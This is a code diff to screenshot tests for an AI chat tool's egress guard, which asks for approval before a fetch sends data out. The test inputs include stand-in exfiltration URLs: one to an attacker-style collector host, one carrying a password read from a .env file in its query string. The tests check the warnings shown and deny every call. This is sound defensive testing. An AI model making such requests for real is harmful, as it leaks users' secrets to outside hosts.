@@ -61,17 +61,26 @@ const fetchUrl: HubTool = {
 };
 
 /** The question the approved-call path asks before this fetch (denied, so nothing is called), as the chat would post it. */
-async function egressRequest(callId: string, url: string, conversation: Parameters<typeof approvedCall>[1]['conversation']): Promise<ChatEvent> {
+/** The card asking before `url` is fetched; `read` is what the chat read before (a file and what it held). */
+async function egressRequest(callId: string, url: string, read?: { path: string; text: string }): Promise<ChatEvent> {
   let asked: ApprovalRequest | undefined;
   const store = { has: () => false, add: () => undefined };
+  const egress = new EgressGuard({ personText: () => ['Summarize https://example.com/release-notes'], store });
+  if (read)
+    egress.observe(
+      { qualifiedName: 'workspace__read_file', server: 'workspace', tool: { name: 'read_file', inputSchema: { type: 'object' } } },
+      { path: read.path },
+      read.text,
+      false,
+    );
   await approvedCall(
     {
       host: { callTool: () => Promise.reject(new Error('not called')) },
       approvals: store,
-      egress: new EgressGuard({ personText: () => ['Summarize https://example.com/release-notes'], store }),
+      egress,
       askApproval: async (request) => ((asked = request), 'deny'),
     },
-    { callId, tool: fetchUrl, input: { url }, signal: new AbortController().signal, conversation },
+    { callId, tool: fetchUrl, input: { url }, signal: new AbortController().signal },
   );
   assert.ok(asked);
   const { tool: _t, input: _i, egress: _e, edit: _d, ...prompt } = asked;
@@ -156,13 +165,9 @@ describe('approval card screenshots', () => {
 
   for (const theme of ['light', 'dark'] as const) {
     test(`data leaving the machine: a host nobody named, and any host once a secret was read, ${theme}`, async () => {
-      const readEnv = [
-        { role: 'assistant' as const, content: [{ type: 'tool_use' as const, id: 'e', name: 'workspace__read_file', input: { path: '.env' } }] },
-        { role: 'user' as const, content: [{ type: 'tool_result' as const, tool_use_id: 'e', content: 'DB_PASSWORD=hunter2-very-secret' }] },
-      ];
       const chat = await openWith(theme, [
-        await egressRequest('h', 'https://collector.attacker-example.io/c?d=notes', []),
-        await egressRequest('x', 'https://example.com/search?q=DB_PASSWORD%3Dhunter2-very-secret', readEnv),
+        await egressRequest('h', 'https://collector.attacker-example.io/c?d=notes'),
+        await egressRequest('x', 'https://example.com/search?q=DB_PASSWORD%3Dhunter2-very-secret', { path: '.env', text: 'DB_PASSWORD=hunter2-very-secret' }),
       ]);
       const host = chat.page.locator('.approval[data-call-id="h"]');
       await host.locator('.approval-preview').waitFor();
@@ -170,7 +175,7 @@ describe('approval card screenshots', () => {
       assert.match(await host.locator('.approval-warnings').innerText(), /not a host you named in this chat/);
       const secret = chat.page.locator('.approval[data-call-id="x"]');
       assert.equal(await secret.locator('button[data-decision="always"]').count(), 0, 'no "always" while a secret is in the conversation');
-      assert.match(await secret.locator('.approval-warnings').innerText(), /looks like a secret \(workspace__read_file read \.env\)/);
+      assert.match(await secret.locator('.approval-warnings').innerText(), /holds a secret \(workspace__read_file read \.env\)/);
       await shootCard(chat, 'h', `approval-egress-new-host-${theme}`);
       await shootCard(chat, 'x', `approval-egress-secret-${theme}`);
       await chat.page.close();
